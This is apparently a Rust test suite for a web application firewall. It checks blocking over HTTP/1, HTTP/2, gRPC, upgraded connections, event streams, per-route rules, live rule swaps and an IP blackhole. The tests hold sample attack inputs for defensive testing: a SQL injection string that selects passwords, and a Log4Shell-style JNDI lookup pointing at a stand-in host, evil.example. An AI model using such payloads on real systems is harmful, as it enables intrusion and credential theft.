//! A firewall in front of real servers and protocols: HTTP/1 and HTTP/2 by hyper, gRPC by tonic, upgrades and event streams, behind a
//! blackhole and with rules of its own for a route.
#![expect(clippy::unwrap_used, reason = "in a test a panic is the report")]

use std::convert::Infallible;
use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Weak};

use axum::Router;
use axum::body::Body;
use axum::extract::Request;
use axum::routing::{any, get, post};
use bytes::Bytes;
use fusebox_blackhole::{BlackholeConfig, JailConfig};
use fusebox_core::{Outcome, Registration};
use fusebox_http::identity::PeerAddr;
use fusebox_stack_tests::{Server, until, within};
use fusebox_waf::{Compressed, OverLimit, Ruleset, RulesetBuilder};
use http::{Response, StatusCode};
use http_body_util::channel::{Channel, Sender};
use http_body_util::{BodyExt, Empty, Full};
use hyper_util::client::legacy::{Client, connect::HttpConnector};
use hyper_util::rt::{TokioExecutor, TokioIo};
use hyper_util::server::conn::auto;
use hyper_util::service::TowerToHyperService;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::mpsc;
use tonic::{Code, transport::Endpoint};
use tonic_health::pb::{HealthCheckRequest, health_client::HealthClient};
use tower::{ServiceBuilder, ServiceExt as _, service_fn};

fn settings() -> RulesetBuilder {
    Ruleset::builder("waf")
        .core()
        .registration(Registration::Unlisted)
}

const ATTACK: &str = "q=1'+union+select+password+from+users--";

fn client(http2: bool) -> Client<HttpConnector, Full<Bytes>> {
    Client::builder(TokioExecutor::new())
        .http2_only(http2)
        .build_http()
}

fn asks(url: String, body: Option<&'static str>) -> http::Request<Full<Bytes>> {
    let request = http::Request::builder()
        .uri(url)
        .header("user-agent", "Mozilla/5.0")
        .header("accept", "*/*");
    match body {
        None => request.body(Full::default()),
        Some(body) => request
            .method("POST")
            .header("content-type", "application/x-www-form-urlencoded")
            .body(Full::from(body)),
    }
    .unwrap()
}

/// Repeats bodies, served by hyper without a framework. Returns its URL.
async fn repeater(rules: &Ruleset) -> String {
    let service = ServiceBuilder::new()
        .layer(rules.layer())
        .service(service_fn(async |request: http::Request<_>| {
            Ok::<_, Infallible>(Response::new(request.into_body()))
        }));
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let service = TowerToHyperService::new(service.clone());
            tokio::spawn(async move {
                let server = auto::Builder::new(TokioExecutor::new());
                let _ = server.serve_connection(TokioIo::new(stream), service).await;
            });
        }
    });
    url
}

#[tokio::test]
async fn one_connection_carries_attacks_and_honest_requests_by_turns() {
    for http2 in [false, true] {
        let rules = settings().build().unwrap();
        let url = repeater(&rules).await;
        let client = client(http2);
        for _ in 0..3 {
            for (body, status) in [(Some("q=red+shoes"), 200), (Some(ATTACK), 403), (None, 200)] {
                let answer = within(client.request(asks(format!("{url}/search"), body))).await;
                let answer = answer.unwrap();
                assert_eq!(answer.status(), status, "HTTP/2: {http2}");
                let got = within(answer.into_body().collect()).await.unwrap();
                if status == 200 {
                    assert_eq!(got.to_bytes(), body.unwrap_or_default());
                }
            }
        }
        let told = rules.stats();
        assert_eq!((told.refused(), told.outcome(Outcome::Success)), (3, 6));
    }
}

#[tokio::test]
async fn streams_of_one_connection_are_inspected_side_by_side() {
    let rules = settings().build().unwrap();
    let url = repeater(&rules).await;
    let client = client(true);
    let mut calls = tokio::task::JoinSet::new();
    for turn in 0..40 {
        let body = if turn % 4 == 0 { ATTACK } else { "q=red+shoes" };
        let call = client.request(asks(url.clone(), Some(body)));
        calls.spawn(async move {
            let answer = within(call).await.unwrap();
            assert_eq!(answer.status() == 403, turn % 4 == 0);
        });
    }
    while let Some(call) = calls.join_next().await {
        call.unwrap();
    }
    assert_eq!(rules.stats().refused(), 10);
}

#[tokio::test]
async fn a_grpc_stream_passes_unbuffered_and_an_attack_is_permission_denied() {
    let rules = settings().build().unwrap();
    let (reporter, health) = tonic_health::server::health_reporter();
    // Whoever drops it ends every stream.
    std::mem::forget(reporter);
    let router = tonic::service::Routes::new(health).into_axum_router();
    let server = Server::start(router.layer(rules.layer())).await;
    let endpoint = Endpoint::from_shared(server.url("")).unwrap();
    let channel = within(endpoint.connect()).await.unwrap();
    let mut client = HealthClient::new(channel);

    let watched = within(client.watch(HealthCheckRequest::default())).await;
    let mut stream = watched.unwrap().into_inner();
    assert!(within(stream.message()).await.unwrap().is_some());
    within(client.check(HealthCheckRequest::default()))
        .await
        .unwrap();

    let mut attack = tonic::Request::new(HealthCheckRequest::default());
    let look_up = "${jndi:ldap://evil.example/a}".parse().unwrap();
    attack.metadata_mut().insert("x-api-version", look_up);
    let status = within(client.check(attack)).await.unwrap_err();
    assert_eq!(status.code(), Code::PermissionDenied);
    assert!(!status.message().contains("jndi"));
}

#[tokio::test]
async fn an_upgraded_connection_is_left_alone() {
    async fn shout(mut request: Request) -> Response<Body> {
        let upgrade = hyper::upgrade::on(&mut request);
        tokio::spawn(async move {
            let mut stream = TokioIo::new(upgrade.await.unwrap());
            let mut word = [0; 64];
            while let Ok(count @ 1..) = stream.read(&mut word).await {
                let heard = word.get_mut(..count).unwrap();
                heard.make_ascii_uppercase();
                stream.write_all(heard).await.unwrap();
            }
        });
        Response::builder()
            .status(StatusCode::SWITCHING_PROTOCOLS)
            .header("connection", "upgrade")
            .header("upgrade", "websocket")
            .body(Body::empty())
            .unwrap()
    }
    // Responses are looked at, too.
    let rules = settings()
        .responses(1 << 20, OverLimit::Refuse)
        .build()
        .unwrap();
    let router = Router::new().route("/socket", any(shout));
    let server = Server::start(router.layer(rules.layer())).await;
    let mut wire = TcpStream::connect(server.address()).await.unwrap();
    let asks = "GET /socket HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\
                Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
                Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";
    wire.write_all(asks.as_bytes()).await.unwrap();
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        head.push(within(wire.read_u8()).await.unwrap());
    }
    assert!(head.starts_with(b"HTTP/1.1 101 "));
    // Nobody's business any more.
    for word in [&b"hello"[..], b"1' union select password from users--"] {
        wire.write_all(word).await.unwrap();
        let mut heard = vec![0; word.len()];
        within(wire.read_exact(&mut heard)).await.unwrap();
        assert_eq!(heard, word.to_ascii_uppercase());
    }
}

#[tokio::test]
async fn events_arrive_one_by_one_although_responses_are_inspected() {
    let (streams, mut started) = mpsc::channel::<Sender<Bytes>>(1);
    let events = get(move || {
        let streams = streams.clone();
        async move {
            let (sender, body) = Channel::<Bytes>::new(1);
            streams.send(sender).await.unwrap();
            let stream = Response::builder().header("content-type", "text/event-stream");
            stream.body(Body::new(body)).unwrap()
        }
    });
    let access = "SecResponseBodyMimeType text/event-stream text/html";
    let rules = settings()
        .text("all", access)
        .responses(1 << 20, OverLimit::Refuse)
        .build()
        .unwrap();
    let router = Router::new().route("/events", events);
    let server = Server::start(router.layer(rules.layer())).await;
    let answer = within(client(false).request(asks(server.url("/events"), None))).await;
    let mut body = answer.unwrap().into_body();
    let mut sender = within(started.recv()).await.unwrap();
    for event in ["data: 1\n\n", "data: 2\n\n", "data: 3\n\n"] {
        within(sender.send_data(event.into())).await.unwrap();
        let frame = within(body.frame()).await.unwrap().unwrap();
        assert_eq!(frame.into_data().unwrap(), event);
    }
}

#[tokio::test]
async fn a_route_has_rules_of_its_own() {
    let shop = settings().build().unwrap();
    // A review tool's business is code: nothing but the rules about the protocol.
    let own = r#"
        SecRuleEngine On
        SecRequestBodyAccess On
        SecRule ARGS:language "!@within rust go c" "id:1,phase:2,deny,status:422"
    "#;
    let review = Ruleset::builder("review")
        .text("review.conf", own)
        .registration(Registration::Unlisted)
        .build()
        .unwrap();
    let router = Router::new()
        .route("/orders", post(async || "ordered").layer(shop.layer()))
        .route("/review", post(async || "read").layer(review.layer()));
    let server = Server::start(router).await;
    let client = client(false);
    let status = async |path: &str, body| {
        let answer = within(client.request(asks(server.url(path), Some(body)))).await;
        answer.unwrap().status().as_u16()
    };
    assert_eq!(status("/orders", ATTACK).await, 403);
    assert_eq!(status("/review", ATTACK).await, 200);
    assert_eq!(status("/review", "language=php").await, 422);
    assert_eq!(status("/orders", "language=php").await, 200);
    assert_eq!((shop.stats().refused(), review.stats().refused()), (1, 1));
}

#[tokio::test]
async fn rules_are_swapped_under_traffic_and_no_request_is_lost() {
    let rules = settings().build().unwrap();
    let url = repeater(&rules).await;
    let shut = r#"SecRule ARGS:q "@streq open" "id:1,phase:2,deny,status:423""#;
    let shut = settings().text("shut", shut).compile().unwrap();
    let mut before = 0;
    let client = client(true);
    for turn in 0..60 {
        if turn == 20 {
            rules.swap(shut.clone());
        }
        let answer = within(client.request(asks(url.clone(), Some("q=open")))).await;
        let status = answer.unwrap().status().as_u16();
        assert!(matches!(status, 200 | 423), "{status}");
        before += usize::from(status == 200);
    }
    assert_eq!(before, 20);
    let told = rules.stats();
    assert_eq!((told.outcome(Outcome::Success), told.refused()), (20, 40));
}

/// Eight clients on two threads, and rules that change under them: one rule set refuses what its limits would let through, the other lets
/// through what its limits refuse. Rules of one with limits of the other would answer 200.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rules_and_their_limits_are_swapped_as_one_under_concurrent_traffic() {
    let shut =
        r#"SecRule REQUEST_HEADERS:Content-Encoding "@streq br" "id:1,phase:1,deny,status:423""#;
    let by_rule = settings().text("shut", shut).compressed(Compressed::Pass);
    let by_limit = settings().compressed(Compressed::Refuse);
    let rules = by_rule.clone().build().unwrap();
    let (by_rule, by_limit) = (by_rule.compile().unwrap(), by_limit.compile().unwrap());
    let url = repeater(&rules).await;
    let (left, asked) = (Arc::new(AtomicUsize::new(8)), Arc::new(AtomicUsize::new(0)));
    let mut clients = tokio::task::JoinSet::new();
    for at in 0..8 {
        let (url, left, asked) = (url.clone(), left.clone(), asked.clone());
        let client = client(at % 2 == 0);
        clients.spawn(async move {
            let mut seen = [0_usize; 2];
            // At least so many, and until both have been in force while this one asked.
            while seen.iter().sum::<usize>() < 200 || seen.contains(&0) {
                let mut request = asks(url.clone(), Some("q=red+shoes"));
                let coding = http::HeaderValue::from_static("br");
                request.headers_mut().insert("content-encoding", coding);
                let answer = within(client.request(request)).await.unwrap();
                asked.fetch_add(1, Ordering::SeqCst);
                match answer.status().as_u16() {
                    423 => seen[0] += 1,
                    415 => seen[1] += 1,
                    other => panic!("rules of one and limits of the other: {other}"),
                }
            }
            left.fetch_sub(1, Ordering::SeqCst);
        });
    }
    let mut swaps = 0_u64;
    while left.load(Ordering::SeqCst) > 0 {
        let next = if swaps.is_multiple_of(2) {
            &by_limit
        } else {
            &by_rule
        };
        rules.swap(next.clone());
        swaps += 1;
        tokio::task::yield_now().await;
    }
    while let Some(client) = clients.join_next().await {
        client.unwrap();
    }
    assert!(swaps > 10, "{swaps} swaps");
    let told = rules.stats();
    let asked = asked.load(Ordering::SeqCst) as u64;
    assert_eq!(
        (told.refused(), told.ended()),
        (asked, 0),
        "none is lost, none came through"
    );
}

/// What a request carries about, to see whether it is still there.
#[derive(Clone)]
struct Token(#[expect(dead_code, reason = "it is there to be counted")] Arc<()>);

#[tokio::test]
async fn of_a_client_that_goes_away_in_the_middle_of_its_body_nothing_is_kept() {
    let (sent, mut tokens) = mpsc::channel::<Weak<()>>(1);
    let marks = tower::util::MapRequestLayer::new(move |mut request: Request| {
        let token = Arc::new(());
        sent.try_send(Arc::downgrade(&token)).unwrap();
        request.extensions_mut().insert(Token(token));
        request
    });
    let rules = settings().build().unwrap();
    let router = Router::new()
        .route("/echo", post(async |body: String| body))
        .layer(rules.layer())
        .layer(marks);
    let server = Server::start(router).await;
    for sent in ["q=", "q=half"] {
        let mut wire = TcpStream::connect(server.address()).await.unwrap();
        let head = "POST /echo HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\
                    Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 100\r\n\r\n";
        wire.write_all(format!("{head}{sent}").as_bytes())
            .await
            .unwrap();
        let token = within(tokens.recv()).await.unwrap();
        assert_eq!(token.strong_count(), 1, "it is held while its body comes");
        drop(wire);
        until("the request is gone", || token.strong_count() == 0).await;
    }
    let told = rules.stats();
    assert_eq!((told.ended(), told.refused()), (2, 0));
}

#[tokio::test]
async fn a_blackhole_takes_attacks_for_strikes_and_nothing_else() {
    let peer = SocketAddr::from(([203, 0, 113, 7], 40_000));
    let address: IpAddr = peer.ip();
    for (body, lead_in) in [(ATTACK, true), ("text=much+too+long", false)] {
        let jail = JailConfig::new("edge")
            .registration(Registration::Unlisted)
            .build()
            .unwrap();
        let rules = settings()
            .request_body(if lead_in { 1 << 20 } else { 8 }, OverLimit::Refuse)
            .build()
            .unwrap();
        let service = ServiceBuilder::new()
            .layer(BlackholeConfig::new(&jail).build().unwrap())
            .layer(rules.layer())
            .service(service_fn(async |_: http::Request<_>| {
                Ok::<_, Infallible>(Response::new(Empty::<Bytes>::new()))
            }));
        for _ in 0..100 {
            let mut request = asks("/search".to_owned(), Some(body));
            request
                .headers_mut()
                .insert("host", "shop.example".parse().unwrap());
            request.extensions_mut().insert(PeerAddr(peer));
            let answer = within(service.clone().oneshot(request)).await.unwrap();
            assert!(matches!(answer.status().as_u16(), 403 | 413));
        }
        assert_eq!(jail.holds(address), lead_in, "{body}");
    }
}
